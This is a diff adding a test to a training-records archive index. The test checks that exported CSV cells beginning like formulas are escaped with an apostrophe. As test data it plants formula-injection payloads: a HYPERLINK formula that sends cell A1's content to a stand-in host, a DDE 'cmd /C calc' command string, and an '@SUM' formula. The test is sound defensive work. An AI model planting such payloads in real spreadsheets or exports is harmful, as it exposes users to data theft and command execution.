@@ -92,4 +92,24 @@ describe('the archive index', () => {
     expect(first?.['Reprezentantul angajatorului: nume']).toBe('');
     expect(first?.Fișier).toBe(buildRecordPath(documents[0] as TrainingDocument));
   });
+
+  it('opens every cell that starts like a formula as text, whoever wrote it', () => {
+    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
+    const document = buildSignedDocument();
+    document.record.trainee.last_name = planted;
+    document.record.course.title = "+cmd|' /C calc'!A0";
+    const trainee = document.signatures[0] as TrainingDocument['signatures'][number];
+    trainee.user_agent = '@SUM(1+1)';
+
+    const [row]: Record<string, string>[] = parse(formatIndexCsv([toIndexRow(document)]), {
+      bom: true,
+      delimiter: ';',
+      columns: true,
+    });
+
+    expect(row?.Nume).toBe(`'${planted}`);
+    expect(row?.Cursul).toBe("'+cmd|' /C calc'!A0");
+    expect(row?.['Cursant: browser']).toBe("'@SUM(1+1)");
+    expect(row?.Prenume).toBe('Ștefan');
+  });
 });
